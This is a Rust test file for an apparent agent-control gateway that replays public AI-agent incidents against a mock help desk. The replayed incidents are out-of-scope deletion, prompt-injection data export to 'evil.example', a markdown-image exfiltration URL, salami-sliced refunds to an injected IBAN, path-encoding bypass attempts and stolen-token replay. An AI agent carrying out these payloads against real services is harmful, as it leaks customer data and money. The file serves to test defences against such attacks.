//! Public incidents, played against a real help desk on three roads: past everything (`bypass`), through a proxy that adds the
//! key to whatever it is sent (`naive`), and through Writ. The attack is the same; what is asserted is what the help desk
//! holds afterwards. `docs/incidents.md` says which test plays which incident.

#![expect(
    clippy::unwrap_used,
    clippy::panic,
    reason = "a test that cannot be set up has failed"
)]

use std::convert::Infallible;
use std::net::{Ipv4Addr, SocketAddr};

use bytes::Bytes;
use http_body_util::{BodyExt as _, Full};
use hyper::body::Incoming;
use hyper::service::service_fn;
use hyper::{Method, Request, Response};
use hyper_util::rt::TokioIo;
use tokio::net::TcpListener;
use writ::agent::OpenTask;
use writ::http::Peer;
use writ_helpdesk::{INJECTED_IBAN, KEY_HEADER, State};
use writ_testkit::{Caller, Desk, Project, Server, json, reason, runtime};

/// One call of an attack, and what becomes of it through Writ: the reason of the refusal, or nothing.
type Step<'a> = (&'a str, &'a str, &'a str, &'a str);

/// An attack.
struct Incident<'a> {
    /// What the project says beside the help desk and the agent.
    files: &'a [(&'a str, &'a str)],
    /// What the task is opened with, beside type and purpose.
    task: &'a str,
    /// The calls, in order. Paths are the help desk's own.
    attack: &'a [Step<'a>],
    /// Whether the help desk has come to harm.
    harmed: fn(&State) -> bool,
}

const ACTIONS: &str = r#"["helpdesk:listTickets","helpdesk:getTicket","helpdesk:getCustomer","helpdesk:addComment","helpdesk:deleteTicket","helpdesk:createRefund","helpdesk:exportCustomers"]"#;

/// Everything that the purpose allows, with budget enough: what stops the attack is not that nothing was granted.
const GENEROUS: &str = r#""actions":["helpdesk:listTickets","helpdesk:getTicket","helpdesk:getCustomer","helpdesk:addComment","helpdesk:deleteTicket","helpdesk:createRefund","helpdesk:exportCustomers"],"budget":{"calls":50,"writes":20,"deletes":5,"irreversible":5}"#;

/// An installation of Writ before a help desk of its own.
struct Installation {
    project: Project,
    desk: Desk,
    server: Server,
}

impl Installation {
    async fn start(files: &[(&str, &str)]) -> Self {
        let project = writ_testkit::project!();
        let desk = Desk::open(&project).await;
        for agent in ["bot", "other"] {
            project.agent(agent, "autonomous", &["support"]);
        }
        project.write(
            "purposes/support.toml",
            &format!("owner = \"o@example.org\"\nactions = {ACTIONS}\n[budget]\ncalls = 50\nwrites = 20\ndeletes = 5\nirreversible = 5\n"),
        );
        for (file, text) in files {
            project.write(file, text);
        }
        let server = project.start();
        project.sign_in();
        project.credential("helpdesk-key", &desk.key);
        Self {
            project,
            desk,
            server,
        }
    }

    async fn task(&self, agent: &str, details: &str) -> OpenTask {
        let client = self.project.client();
        let spiffe = format!("spiffe://writ.local/agent/{agent}");
        let identity = client.identity(Some(&spiffe)).await.unwrap();
        let details = format!(r#"[{{"type":"writ_task","purpose":"support",{details}}}]"#);
        let opened = client.open(&identity, &json(&details)).await.unwrap();
        opened.unwrap_or_else(|answer| panic!("not opened: {}", answer.json()))
    }

    /// The log of what happened verifies, with nothing but the public key.
    fn verify(&self) {
        let (code, said, errors) = self.project.run(&["audit", "verify"]);
        assert_eq!(code, 0, "{said}{errors}");
    }
}

/// The status and, of a refusal, the reason.
async fn call(caller: &Caller<'_>, step: &Step<'_>) -> String {
    let (method, path, body, _) = step;
    let json = [("content-type", "application/json")];
    let fields: &[_] = if body.is_empty() { &[] } else { &json };
    let path = format!("/helpdesk{path}");
    let answer = caller.send(method, &path, fields, (*body).to_owned()).await;
    if answer.status < 300 {
        return String::new();
    }
    reason(&answer)
}

/// A proxy as many have one: it keeps the key from the agent, and adds it to whatever the agent sends.
async fn naive_proxy(upstream: SocketAddr, key: &str) -> SocketAddr {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).await.unwrap();
    let address = listener.local_addr().unwrap();
    let key = key.to_owned();
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let key = key.clone();
            let service = service_fn(move |request| forward(request, upstream, key.clone()));
            let served = hyper::server::conn::http1::Builder::new()
                .serve_connection(TokioIo::new(stream), service);
            tokio::spawn(served);
        }
    });
    address
}

async fn forward(
    request: Request<Incoming>,
    upstream: SocketAddr,
    key: String,
) -> Result<Response<Full<Bytes>>, Infallible> {
    let (method, target) = (request.method().clone(), request.uri().to_string());
    let body = request.into_body().collect().await.unwrap().to_bytes();
    let peer = Peer::url(&format!("http://{upstream}"), None).unwrap();
    let mut fields = vec![(KEY_HEADER, key.as_str())];
    if !body.is_empty() {
        fields.push(("content-type", "application/json"));
    }
    let answer = peer.send(method, &target, &fields, body).await.unwrap();
    let mut response = Response::new(Full::new(answer.body));
    *response.status_mut() = hyper::StatusCode::from_u16(answer.status).unwrap();
    Ok(response)
}

/// Plays the attack where nothing but the key, or a proxy that adds it, stands in its way: it succeeds, or it would be no
/// attack.
async fn without_writ(incident: &Incident<'_>) {
    for naive in [false, true] {
        let project = writ_testkit::project!();
        let desk = Desk::open(&project).await;
        assert!(
            !(incident.harmed)(&desk.desk.state()),
            "harmed before it began"
        );
        let address = if naive {
            naive_proxy(desk.address, &desk.key).await
        } else {
            desk.address
        };
        let peer = Peer::url(&format!("http://{address}"), None).unwrap();
        for (method, path, body, _) in incident.attack {
            let mut fields = Vec::new();
            if !naive {
                fields.push((KEY_HEADER, desk.key.as_str()));
            }
            if !body.is_empty() {
                fields.push(("content-type", "application/json"));
            }
            let method = Method::from_bytes(method.as_bytes()).unwrap();
            let answer = peer.send(method, path, &fields, (*body).to_owned()).await;
            assert!(answer.unwrap().status < 500);
        }
        assert!(
            (incident.harmed)(&desk.desk.state()),
            "without Writ (naive: {naive}) the attack reaches its goal"
        );
    }
}

/// Plays the attack on all three roads; through Writ each call ends as it should, nothing has come to harm, and the log says
/// what happened.
fn play(incident: &Incident<'_>) {
    runtime().block_on(async {
        without_writ(incident).await;
        let installation = Installation::start(incident.files).await;
        let task = installation.task("bot", incident.task).await;
        let caller = Caller::new(&installation.project, &task);
        for step in incident.attack {
            let became = call(&caller, step).await;
            assert_eq!(became, step.3, "{} {}", step.0, step.1);
        }
        let state = installation.desk.desk.state();
        assert!(!(incident.harmed)(&state), "{state:?}");
        installation.verify();
    });
}

fn lost(state: &State) -> bool {
    !state.tickets.iter().any(|ticket| ticket.id == "T-1003")
}

/// An agent on a small errand finds a way to delete what cannot be brought back (`PocketOS` and Railway, April 2026).
#[test]
fn an_agent_on_an_errand_does_not_delete_what_is_not_its_errand() {
    let errand = r#""actions":["helpdesk:listTickets","helpdesk:getTicket"]"#;
    play(&Incident {
        files: &[],
        task: errand,
        attack: &[
            ("GET", "/tickets", "", ""),
            ("DELETE", "/tickets/T-1003", "", "action_not_granted"),
            // The same in other words: it is the operation that is granted, not a text.
            ("DELETE", "/tickets/%54-1003", "", "action_not_granted"),
            ("DELETE", "//tickets/T-1003", "", "malformed_request"),
            (
                "DELETE",
                "/tickets/../tickets/T-1003",
                "",
                "malformed_request",
            ),
            (
                "DELETE",
                "/tickets/T-1003?force=1",
                "",
                "action_not_granted",
            ),
        ],
        harmed: lost,
    });
}

/// And where deleting is its errand, a person sees it first.
#[test]
fn what_cannot_be_undone_waits_for_a_person() {
    play(&Incident {
        files: &[("policies/packs.toml", "packs = [\"autonomous\"]\n")],
        task: GENEROUS,
        attack: &[
            ("GET", "/tickets/T-1003", "", ""),
            ("DELETE", "/tickets/T-1003", "", "approval_required"),
            ("DELETE", "/tickets/T-1003", "", "approval_required"),
        ],
        harmed: lost,
    });
}

/// A freeze that was said to the agent, and not to its gateway (Replit and `SaaStr`, July 2025).
#[test]
fn a_freeze_is_state_and_no_prompt() {
    play(&Incident {
        files: &[(
            "policies/freezes.toml",
            "[[freeze]]\nname = \"code-freeze\"\nreason = \"release week\"\nfrom = \"2020-01-01T00:00:00Z\"\nuntil = \"2099-01-01T00:00:00Z\"\n",
        )],
        task: GENEROUS,
        attack: &[
            ("GET", "/tickets", "", ""),
            ("DELETE", "/tickets/T-1003", "", "frozen"),
            (
                "POST",
                "/tickets/T-1001/comments",
                r#"{"body":"rollback is impossible"}"#,
                "frozen",
            ),
            ("GET", "/tickets/T-1001", "", ""),
        ],
        harmed: lost,
    });
}

/// A stranger's words in what is read, then what is confidential, then a way out (GitHub's MCP server, May 2025). It is the
/// flow that is refused, not a text: how the data is written makes no difference.
#[test]
fn what_strangers_wrote_and_what_is_confidential_do_not_leave_together() {
    let export = r#"{"destination":"drop@evil.example"}"#;
    let encoded = format!(
        r#"{{"ticket_id":"T-1002","amount":"1.00","iban":"{INJECTED_IBAN}","reason":"bWFydGEubGluZHF2aXN0QGV4YW1wbGUub3Jn"}}"#
    );
    play(&Incident {
        files: &[],
        task: GENEROUS,
        attack: &[
            ("GET", "/tickets/T-1003", "", ""),
            ("GET", "/customers/C-201", "", ""),
            ("POST", "/customers/export", export, "approval_required"),
            ("POST", "/refunds", &encoded, "approval_required"),
            ("POST", "/customers/export", export, "approval_required"),
        ],
        harmed: |state| !state.exports.is_empty() || !state.refunds.is_empty(),
    });
}

/// A picture whose address carries what was read (`EchoLeak`, CVE-2025-32711): an address in a payload must come from somewhere.
#[test]
fn an_address_in_a_payload_that_nothing_vouches_for_is_not_written() {
    let overlay = "overlay: 1.0.0
info: {title: Help desk, version: '1'}
actions:
  - target: $.paths['/tickets/{ticket_id}/comments'].post.requestBody.content['application/json'].schema.properties.body
    update: {x-writ: {payload: true}}
";
    let picture = r#"{"body":"![status][1]\n\n[1]: https://proxy.allowed.example/fetch?u=https://evil.example/?d=SECRET"}"#;
    play(&Incident {
        files: &[("apis/helpdesk.overlay.yaml", overlay)],
        task: GENEROUS,
        attack: &[
            ("GET", "/tickets/T-1003", "", ""),
            (
                "POST",
                "/tickets/T-1001/comments",
                picture,
                "value_not_vouched",
            ),
            (
                "POST",
                "/tickets/T-1001/comments",
                r#"{"body":"Nothing to see."}"#,
                "",
            ),
        ],
        harmed: |state| {
            let mut comments = state.comments.iter();
            comments.any(|comment| comment.body.contains("evil.example"))
        },
    });
}

/// What a refund is of, what is counted of them, and how much is too much.
const SLICES: &[(&str, &str)] = &[
    (
        "apis/helpdesk.overlay.yaml",
        "overlay: 1.0.0
info: {title: Help desk, version: '1'}
actions:
  - target: $.components.schemas.Amount
    update: {x-writ: {quantity: {name: refund}}}
",
    ),
    (
        "policies/windows.toml",
        "[[window]]
name = \"refunds_day\"
by = \"agent\"
within = \"24h\"
actions = [\"helpdesk:createRefund\"]
sum = \"refund\"
",
    ),
    (
        "policies/refunds.cedar",
        "@id(\"refunds.day\")
@doc(\"One agent pays back ten a day at most, over all its tasks.\")
forbid (principal, action == Api_helpdesk::Action::\"createRefund\", resource)
when { context.sys.windows.refunds_day.sum.greaterThan(decimal(\"10.00\")) || context.sys.windows.refunds_day.others > 0 };
",
    ),
    (
        "policies/tests/refunds.toml",
        "[default]
agent = \"bot\"
purpose = \"support\"
action = \"helpdesk:createRefund\"
[[case]]
name = \"the last slice that fits\"
body = { ticket_id = \"T-1001\", amount = \"4.00\", iban = \"DE89370400440532013000\", reason = \"slice\" }
facts = { windows = { refunds_day = { calls = 3, sum = \"6.00\" } } }
expect = \"ALLOW\"
[[case]]
name = \"the one after it\"
body = { ticket_id = \"T-1001\", amount = \"0.01\", iban = \"DE89370400440532013000\", reason = \"slice\" }
facts = { windows = { refunds_day = { calls = 4, sum = \"10.00\" } } }
expect = { decision = \"DENY\", rules = [\"refunds.day\"] }
",
    ),
];

/// Many small payments that come to a large one: from several tasks of one agent, at the same time, and across a crash
/// (salami slicing). No call is too much by itself, and no task has done much.
#[test]
fn slices_of_a_payment_are_one_payment() {
    let slice = |amount: &str| {
        format!(
            r#"{{"ticket_id":"T-1001","amount":"{amount}","iban":"{INJECTED_IBAN}","reason":"slice"}}"#
        )
    };
    let (four, cent) = (slice("4.00"), slice("0.01"));
    let paid = ("POST", "/refunds", four.as_str(), "");
    runtime().block_on(async {
        without_writ(&Incident {
            files: &[],
            task: GENEROUS,
            attack: &[paid, paid, paid],
            harmed: |state| state.refunds.len() > 2,
        })
        .await;
        let mut installation = Installation::start(SLICES).await;
        let refunds = |installation: &Installation| installation.desk.desk.state().refunds.len();
        let first = installation.task("bot", GENEROUS).await;
        let caller = Caller::new(&installation.project, &first);
        assert_eq!(call(&caller, &paid).await, "");
        // Two that would each fit alone, at once, from two tasks.
        let second = installation.task("bot", GENEROUS).await;
        let other = Caller::new(&installation.project, &second);
        caller.learn().await;
        other.learn().await;
        let (one, two) = tokio::join!(call(&caller, &paid), call(&other, &paid));
        let became = [one.as_str(), two.as_str()];
        assert!(became.contains(&"forbidden"), "{became:?}");
        assert!(refunds(&installation) <= 2, "{became:?}");
        while refunds(&installation) < 2 {
            // Both saw each other; the next that is alone fits.
            assert_eq!(call(&caller, &paid).await, "");
        }
        assert_eq!(
            call(&other, &paid).await,
            "forbidden",
            "eight of ten are paid"
        );
        let small = ("POST", "/refunds", cent.as_str(), "");
        assert_eq!(call(&other, &small).await, "", "and two are left");
        drop((caller, other));
        // The process dies; what was done is known to the next.
        let (project, desk) = (installation.project, installation.desk);
        installation.server.kill();
        let server = project.start();
        installation = Installation {
            project,
            desk,
            server,
        };
        let third = installation.task("bot", GENEROUS).await;
        let caller = Caller::new(&installation.project, &third);
        assert_eq!(call(&caller, &paid).await, "forbidden");
        assert_eq!(refunds(&installation), 3, "what was paid, and no more");
        // It is this agent's, and nobody else's.
        let innocent = installation.task("other", GENEROUS).await;
        let innocent = Caller::new(&installation.project, &innocent);
        assert_eq!(call(&innocent, &paid).await, "");
        let (code, tested, errors) = installation.project.run(&["policy", "test"]);
        assert_eq!(code, 0, "{tested}{errors}");
        let fields = [("content-type", "application/json")];
        let refused = caller.send("POST", "/helpdesk/refunds", &fields, four.clone());
        let id = refused.await.header("writ-call-id").unwrap().to_owned();
        let (_, why, _) = installation.project.run(&["explain", &id]);
        assert!(
            why.contains("refunds.day") && !why.contains("another decision"),
            "{why}"
        );
        installation.verify();
    });
}

/// A key that probes what it opens, and spends (LLM hijacking, May 2024): the answer to a probe says nothing of the arguments,
/// and what is spent is bounded.
#[test]
fn a_probe_learns_nothing_and_a_burst_is_bounded() {
    let small = r#""actions":["helpdesk:listTickets","helpdesk:addComment"],"budget":{"calls":4,"writes":2}"#;
    let note = ("POST", "/tickets/T-1001/comments", r#"{"body":"burst"}"#);
    play(&Incident {
        files: &[],
        task: small,
        attack: &[
            // Nonsense arguments to what it does not hold: the refusal is the grant's, not the validator's.
            ("POST", "/refunds", r#"{"amount":-1}"#, "action_not_granted"),
            ("POST", "/refunds", "{", "action_not_granted"),
            (note.0, note.1, note.2, ""),
            (note.0, note.1, note.2, ""),
            (note.0, note.1, note.2, "budget_exhausted"),
            (note.0, note.1, note.2, "budget_exhausted"),
        ],
        harmed: |state| {
            let burst = state.comments.iter().filter(|one| one.body == "burst");
            burst.count() > 2
        },
    });
}

/// A dump of tokens, used by others, and all of them ended at once (Moltbook, January 2026).
#[test]
fn a_stolen_token_is_worth_nothing_and_all_of_them_end_at_once() {
    runtime().block_on(async {
        let installation = Installation::start(&[]).await;
        let project = &installation.project;
        let own = r#""actions":["helpdesk:listTickets","helpdesk:addComment"]"#;
        let victim = installation.task("bot", own).await;
        let mut thief = installation.task("other", own).await;
        // As it was found, and with a proof by the thief's own key.
        let client = project.client();
        let replayed = client
            .replay(&victim.token, "/helpdesk/tickets")
            .await
            .unwrap();
        assert_eq!(replayed.status, 401);
        let mine = std::mem::replace(&mut thief.token, victim.token.clone());
        let caller = Caller::new(project, &thief);
        let answer = caller.send("GET", "/helpdesk/tickets", &[], "").await;
        assert_eq!(answer.status, 401, "{}", answer.json());
        let posted = ("POST", "/tickets/T-1001/comments", r#"{"body":"as C"}"#, "");
        assert_ne!(call(&caller, &posted).await, "");
        drop(caller);
        thief.token = mine;
        // The victim's own calls go on, until its agent is stopped; then none of its tokens is good.
        let caller = Caller::new(project, &victim);
        assert_eq!(call(&caller, &("GET", "/tickets", "", "")).await, "");
        let (code, said, errors) = project.run(&["kill", "agent", "bot"]);
        assert_eq!(code, 0, "{said}{errors}");
        assert_ne!(call(&caller, &("GET", "/tickets", "", "")).await, "");
        let other = Caller::new(project, &thief);
        assert_eq!(call(&other, &("GET", "/tickets", "", "")).await, "");
        let comments = installation.desk.desk.state().comments;
        assert!(comments.iter().all(|comment| comment.body != "as C"));
        installation.verify();
    });
}

/// A store of logs that anybody could read, with keys and prompts in the clear (`DeepSeek`, January 2025).
#[test]
fn strangers_get_nothing_and_nothing_secret_lies_in_what_writ_wrote() {
    runtime().block_on(async {
        let installation = Installation::start(&[]).await;
        let project = &installation.project;
        let canary = "canary-prompt-5d2c";
        let task = format!(r#""prompt":"{canary}",{GENEROUS}"#);
        let task = installation.task("bot", &task).await;
        let caller = Caller::new(project, &task);
        let secret = r#"{"body":"canary-argument-77aa"}"#;
        let wrote = ("POST", "/tickets/T-1001/comments", secret, "");
        assert_eq!(call(&caller, &wrote).await, "");
        for path in [
            "/",
            "/helpdesk/tickets",
            "/metrics",
            "/debug",
            "/?query=SHOW%20TABLES",
        ] {
            for peer in [project.gateway(), project.control()] {
                let answer = peer.send(Method::GET, path, &[], "").await.unwrap();
                let text = String::from_utf8_lossy(&answer.body).into_owned();
                assert!(
                    (401..=404).contains(&answer.status),
                    "{path}: {}",
                    answer.status
                );
                assert!(!text.contains("canary"), "{path}");
            }
        }
        installation.verify();
        let mut open = vec![project.path(".writ")];
        let mut read = 0usize;
        while let Some(path) = open.pop() {
            if path.is_dir() {
                let entries = std::fs::read_dir(&path).unwrap();
                open.extend(entries.map(|entry| entry.unwrap().path()));
                continue;
            }
            if !path.is_file() {
                continue;
            }
            read += 1;
            let bytes = std::fs::read(&path).unwrap();
            for secret in [
                canary,
                "canary-argument-77aa",
                installation.desk.key.as_str(),
            ] {
                let found = bytes
                    .windows(secret.len())
                    .any(|part| part == secret.as_bytes());
                assert!(!found, "`{secret}` lies in {}", path.display());
            }
        }
        assert!(read > 5, "{read} files were read");
    });
}

/// The two other roads lead where they should: otherwise nothing above would show anything.
#[test]
fn the_roads_are_real() {
    runtime().block_on(async {
        let project = writ_testkit::project!();
        let desk = Desk::open(&project).await;
        let proxy = naive_proxy(desk.address, &desk.key).await;
        let through = Peer::url(&format!("http://{proxy}"), None).unwrap();
        let answer = through
            .send(Method::GET, "/tickets", &[], "")
            .await
            .unwrap();
        assert_eq!(answer.status, 200, "the proxy adds the key");
        let past = Peer::url(&format!("http://{}", desk.address), None).unwrap();
        let answer = past.send(Method::GET, "/tickets", &[], "").await.unwrap();
        assert_eq!(answer.status, 401, "without it nobody gets in");
    });
}
